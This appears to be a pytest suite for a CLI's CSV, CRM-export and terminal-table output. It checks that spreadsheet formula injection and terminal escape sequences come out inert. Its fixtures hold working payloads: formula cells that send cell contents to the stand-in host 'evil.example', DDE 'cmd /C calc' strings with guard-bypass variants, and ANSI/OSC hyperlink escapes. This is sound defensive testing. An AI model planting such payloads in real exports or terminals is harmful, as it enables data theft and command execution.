"""Outputs of hostile inputs: inert CSV cells and headers, a terminal table that shows text as
text, one-line errors instead of tracebacks, and no clobbered or half-written files."""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

import graphkit.cli.crm
import graphkit.cli.table
import graphkit.export.split as split
from graphkit.cli.main import cli as graphkit_cli
from graphkit.cli.table import visible
from graphkit.io.writers import write_error

EPOCH = "1741046400"  # 2025-03-04T00:00:00Z
# Spreadsheet-bound text that once got through the guard (issue 17).
BYPASS_HANDLES = [
    '@ =HYPERLINK("https://evil.example/?"&A1)',
    "@\t+cmd|' /C calc'!A0",
    "@\r=1+1",
    "@\n-1+cmd|' /C calc'!A0",
    "\u00a0=1+1",
    "\uff1dHYPERLINK(1)",
    "\uff20\u3000\uff0bcmd",
]
FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
BLANKS = " \t\r\n\x0b\x0c\u00a0\u2007\u202f\u3000\ufeff"


def run(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner(env={"SOURCE_DATE_EPOCH": EPOCH, **(env or {})}).invoke(
        graphkit_cli, list(args), prog_name="graphkit", catch_exceptions=False
    )


def assert_error(result: Result, line: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.stderr.strip().splitlines()[-1] == line


def exposed(cell: str) -> bool:
    """Whether any round of stripping blanks and @ leaves a formula at the front."""
    while True:
        if cell[:1] in ("\t", "\r", "\n") or (cell[:1] != "" and cell[:1] in FORMULA_STARTS):
            return True
        stripped = cell.lstrip(BLANKS).lstrip("@\uff20\ufe6b")
        if stripped == cell:
            return False
        cell = stripped


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """Accounts whose handles, a header and pass-through numbers test the guard."""
    folder = tmp_path / "hostile"
    folder.mkdir()
    with (folder / "accounts.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "handle", "name", "kind", "phone", "balance", "=HYPERLINK(1)"])
        for index, bad in enumerate(BYPASS_HANDLES):
            phone = f"+1 555 01{index:02d}"
            writer.writerow(
                [f"u{index}", bad, f"Name {index}", "person", phone, f"-{index}.5", "x"]
            )
    with (folder / "follows.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["follower", "followed"])
        count = len(BYPASS_HANDLES)
        writer.writerows((f"u{i}", f"u{(i + 1) % count}") for i in range(count))
    return folder


def test_plain_csv_guards_cells_and_headers_and_keeps_numbers(
    tmp_path: Path, hostile: Path
) -> None:
    output = tmp_path / "ranking.csv"
    result = run("rank", str(hostile), "-o", str(output), "--manifest")
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells(output)
    assert "'=HYPERLINK(1)" in header
    for cell in [*header, *(cell for row in rows for cell in row)]:
        if cell.startswith(("+1 555", "-")):  # the phone and balance columns
            continue
        assert not exposed(cell), cell
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert {row["phone"] for row in by_column} == {
        f"+1 555 01{i:02d}" for i in range(len(BYPASS_HANDLES))
    }
    assert {row["balance"] for row in by_column} == {f"-{i}.5" for i in range(len(BYPASS_HANDLES))}
    manifest = json.loads((tmp_path / "ranking.csv.manifest.json").read_text(encoding="utf-8"))
    reasons = {(cell["row"], cell["column"]) for cell in manifest["formula_guard"]["cells"]}
    assert (0, "=HYPERLINK(1)") in reasons
    assert manifest["created"] == "2025-03-04T00:00:00+00:00"


def test_csv_on_stdout_guards_headers(hostile: Path) -> None:
    result = run("rank", str(hostile), "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0].endswith(",'=HYPERLINK(1)")


@pytest.mark.parametrize("target", ["hubspot", "salesforce"])
def test_crm_files_leave_no_formula_after_any_strip_round(
    tmp_path: Path, hostile: Path, target: str
) -> None:
    mapping = tmp_path / "mapping.toml"
    mapping.write_text('[contacts]\nhandle = "@Handle"\ntitle = " =Title"\n', encoding="utf-8")
    result = run(
        "rank", str(hostile), "--crm", target, "--crm-mapping", str(mapping),
        "-o", str(tmp_path / "crm.csv"),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells(tmp_path / "crm.contacts.csv")
    assert "'@Handle" in header
    assert "'=Title" in header
    handles = [row[header.index("'@Handle")] for row in rows]
    assert '\'=HYPERLINK("https://evil.example/?"&A1)' in handles
    for cell in [*header, *(cell for row in rows for cell in row)]:
        if cell.startswith(("+1 555", "-")):
            continue
        assert not exposed(cell), cell
    manifest = json.loads((tmp_path / "crm.csv.manifest.json").read_text(encoding="utf-8"))
    reasons = {cell["reason"] for cell in manifest["formula_guard"]["cells"]}
    assert "leading blanks removed; handle @ removed; prefixed" in reasons
    imports = [file for file in manifest["outputs"] if file["kind"] == "import"]
    assert {Path(file["path"]).name for file in imports} == {"crm.contacts.csv"}


def test_export_of_a_plain_csv_guards_the_handles_again(tmp_path: Path, hostile: Path) -> None:
    ranking = tmp_path / "ranking.csv"
    assert run("rank", str(hostile), "-o", str(ranking)).exit_code == 0
    result = run("export", str(ranking), "--crm", "hubspot", "-o", str(tmp_path / "h.csv"))
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells(tmp_path / "h.contacts.csv")
    assert "Graphkit =hyperlink(1)" in header  # the CRM's own header, from the unguarded name
    for cell in (cell for row in rows for cell in row):
        if not cell.startswith(("+1 555", "-")):
            assert not exposed(cell), cell


def test_crm_keys_stay_distinct_after_the_guard(tmp_path: Path) -> None:
    ranking = tmp_path / "ranking.csv"
    pl.DataFrame({"rank": [1, 2, 3], "id": [" b", "b", "\t=x"], "name": ["A", "B", "C"]}).write_csv(
        ranking
    )
    result = run("export", str(ranking), "--crm", "salesforce", "-o", str(tmp_path / "s.csv"))
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells(tmp_path / "s.contacts.csv")
    assert [row[header.index("Graphkit ID")] for row in rows] == [" b", "b", "'\t=x"]


@pytest.mark.parametrize("command", ["rank", "communities"])
def test_the_terminal_table_shows_markup_and_escapes_as_text(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "markup"
    folder.mkdir()
    pl.DataFrame(
        {
            "id": ["u1", "u2", "u3"],
            "handle": ["[/bold]", "[link=https://evil.example]x", "\x1b[2J\x1b]8;;https://e\x07"],
            "name": ["A", "B", "C"],
        }
    ).write_csv(folder / "accounts.csv")
    (folder / "follows.csv").write_text("follower,followed\nu1,u2\nu2,u3\nu3,u1\n")
    result = run(command, str(folder), "--format", "table")
    assert result.exit_code == 0, result.output
    assert "[/bold]" in result.stdout
    assert "[link=https://evil.example]x" in result.stdout
    assert "\\x1b[2J" in result.stdout
    assert "\x1b" not in result.stdout
    assert "\x07" not in result.stdout


def test_a_pass_through_column_named_like_a_result_column(tmp_path: Path) -> None:
    folder = tmp_path / "clash"
    folder.mkdir()
    (folder / "accounts.csv").write_text("id,rank,score\nu1,x,y\nu2,x,y\n")
    (folder / "follows.csv").write_text("follower,followed\nu1,u2\nu2,u1\n")
    result = run("rank", str(folder), "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1].startswith("1,u1,")


def test_export_of_a_result_without_names(tmp_path: Path) -> None:
    result_file = tmp_path / "r.csv"
    result_file.write_text("id,handle\nu1,a\nu2,b\n")
    result = run("export", str(result_file), "--crm", "salesforce", "-o", str(tmp_path / "s.csv"))
    assert result.exit_code == 0, result.output
    header, *rows = csv_cells(tmp_path / "s.contacts.csv")
    assert [row[header.index("Last Name")] for row in rows] == ["a", "b"]


def test_invalid_date_format_in_a_mapping_file(tmp_path: Path, hostile: Path) -> None:
    mapping = tmp_path / "m.toml"
    mapping.write_text('date_format = "%Q%"\n', encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    result = run(
        "rank", str(hostile), "--crm", "hubspot", "--crm-mapping", str(mapping),
        "-o", str(out / "c.csv"),
    )  # fmt: skip
    assert_error(
        result,
        f"Error: {mapping}: date_format '%Q%' is not a strftime format polars can write; "
        "use one such as '%Y-%m-%d'",
    )
    assert list(out.iterdir()) == []


def test_a_manifest_with_a_bad_created_time(tmp_path: Path) -> None:
    result_file = tmp_path / "r.csv"
    result_file.write_text("id,name\nu1,A\n")
    (tmp_path / "r.csv.manifest.json").write_text('{"created": "yesterday"}')
    result = run("export", str(result_file), "--crm", "hubspot", "-o", str(tmp_path / "h.csv"))
    assert_error(
        result, f"Error: {tmp_path / 'r.csv.manifest.json'}: 'created' is 'yesterday', not an "
        "ISO 8601 time",
    )  # fmt: skip
    assert not (tmp_path / "h.contacts.csv").exists()


@pytest.mark.parametrize("epoch", ["1e20", "100000000000000000000", "soon"])
def test_an_invalid_source_date_epoch(tmp_path: Path, hostile: Path, epoch: str) -> None:
    result = run(
        "rank", str(hostile), "-o", str(tmp_path / "r.csv"), env={"SOURCE_DATE_EPOCH": epoch}
    )
    assert_error(
        result,
        "Error: SOURCE_DATE_EPOCH must be Unix seconds (a whole number from 0 to "
        f"253402300799), got {epoch!r}",
    )
    assert not (tmp_path / "r.csv").exists()


def test_the_longest_file_name_is_written_and_a_longer_one_refused(
    tmp_path: Path, hostile: Path
) -> None:
    longest = tmp_path / ("a" * 236 + ".csv")  # 240 bytes: the temporary name must fit too
    result = run("rank", str(hostile), "-o", str(longest))
    assert result.exit_code == 0, result.output
    assert longest.is_file()
    too_long = tmp_path / ("b" * 245 + ".csv")  # its manifest's name is too long
    result = run("rank", str(hostile), "-o", str(too_long), "--manifest")
    assert_error(
        result,
        f"Error: {too_long}.manifest.json: cannot write the file: the file name is too long "
        "(255 bytes at most)",
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([longest.name, "hostile"])


def test_a_folder_that_cannot_be_written(
    tmp_path: Path, hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Tests may run as root, whom permissions do not stop: the check is simulated.
    monkeypatch.setattr("graphkit.io.writers.os.access", lambda *args, **kwargs: False)
    out = tmp_path / "out"
    out.mkdir()
    result = run("rank", str(hostile), "-o", str(out / "r.csv"))
    assert_error(result, f"Error: {out / 'r.csv'}: cannot write the file: permission denied")
    assert list(out.iterdir()) == []


def _full_disk(*args: object, **kwargs: object) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize(
    ("options", "patch", "name"),
    [
        ((), "polars.DataFrame.write_csv", "r.csv"),
        (("--crm", "hubspot"), "graphkit.export.split._append", "r.csv"),
        (("--manifest",), "graphkit.export.manifest.json.dumps", "r.csv.manifest.json"),
    ],
)
def test_a_full_disk_leaves_nothing(
    tmp_path: Path,
    hostile: Path,
    monkeypatch: pytest.MonkeyPatch,
    options: tuple[str, ...],
    patch: str,
    name: str,
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.setattr(patch, _full_disk)
    result = run("rank", str(hostile), "-o", str(out / "r.csv"), *options)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    line = result.stderr.strip().splitlines()[-1]
    assert line.endswith(": cannot write the file: no space left on the device"), line
    if name == "r.csv.manifest.json":  # the result is complete; only its manifest is missing
        assert sorted(path.name for path in out.iterdir()) == ["r.csv"]
    else:
        assert list(out.iterdir()) == []


def test_an_output_never_replaces_an_input(tmp_path: Path) -> None:
    follows = tmp_path / "f.csv"
    follows.write_text("follower,followed\na,b\nb,a\n")
    before = follows.read_bytes()
    result = run("rank", "--follows", str(follows), "-o", str(follows))
    assert_error(
        result, f"Error: {follows}: is also an input of this command; write the output elsewhere"
    )
    assert follows.read_bytes() == before
    linked = tmp_path / "hard.csv"
    os.link(follows, linked)
    result = run("rank", "--follows", str(follows), "-o", str(linked))
    assert_error(
        result,
        f"Error: {linked}: is also an input of this command ({follows}); write the output "
        "elsewhere",
    )
    assert follows.read_bytes() == before


def test_output_onto_a_symlink_writes_through_it(tmp_path: Path, hostile: Path) -> None:
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = run("rank", str(hostile), "-o", str(link))
    assert result.exit_code == 0, result.output
    assert link.is_symlink()
    assert target.read_text(encoding="utf-8").startswith("rank,id,")


def test_a_kill_before_the_manifest_leaves_no_stale_manifest(
    tmp_path: Path, hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    output = tmp_path / "crm.csv"
    assert run("rank", str(hostile), "--crm", "hubspot", "-o", str(output)).exit_code == 0
    manifest = tmp_path / "crm.csv.manifest.json"
    assert manifest.is_file()

    def killed(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(graphkit.cli.crm, "write_run_manifest", killed)
    result = CliRunner(env={"SOURCE_DATE_EPOCH": "1741132800"}).invoke(
        graphkit_cli, ["rank", str(hostile), "--crm", "hubspot", "-o", str(output)]
    )
    assert result.exit_code != 0
    assert not manifest.exists(), "an old manifest would describe the new files"
    assert (tmp_path / "crm.contacts.csv").is_file()


def test_a_failed_commit_takes_back_the_files_of_the_export(
    tmp_path: Path, hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    real_commit = split.PendingFile.commit
    calls = []

    def second_fails(self: split.PendingFile, target: str | Path) -> Path:
        calls.append(target)
        if len(calls) == 2:
            raise write_error(OSError(errno.ENOSPC, "full"), target)
        return real_commit(self, target)

    monkeypatch.setattr(split.PendingFile, "commit", second_fails)
    pl.DataFrame(
        {"rank": [1, 2], "id": ["a", "b"], "name": ["A", "B"], "kind": ["person", "brand"]}
    ).write_csv(tmp_path / "r.csv")
    result = run("export", str(tmp_path / "r.csv"), "--crm", "hubspot", "-o", str(out / "h.csv"))
    assert result.exit_code == 1
    assert list(out.iterdir()) == []


table_text = st.one_of(
    st.text(
        alphabet=st.one_of(
            st.characters(categories=["L", "N", "P", "S"]),
            st.characters(categories=["Cc"]),
            st.sampled_from(["[", "]", "/", "=", "\x1b", "\x9b", "\u202e"]),
        ),
        max_size=4,
    ),
    st.sampled_from(["[/bold]", "[link=x]y", "\x1b[2J", ":smile:", "[/]"]),
)


@given(st.lists(st.tuples(table_text, table_text), min_size=1, max_size=5))
def test_the_table_renderer_shows_every_cell_literally_and_no_control_bytes(
    rows: list[tuple[str, str]],
) -> None:
    frame = pl.DataFrame(rows, schema={"handle": pl.String, "[b]name\x1b": pl.String}, orient="row")
    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        graphkit.cli.table.print_table(frame, "[red]title\x07")
    shown = buffer.getvalue()
    assert not any((0x00 <= ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in shown)
    assert "\u202e" not in shown
    assert "[red]title\\x07" in shown
    assert "[b]name\\x1b" in shown
    for handle, name in rows:
        assert visible(handle) in shown
        assert visible(name) in shown
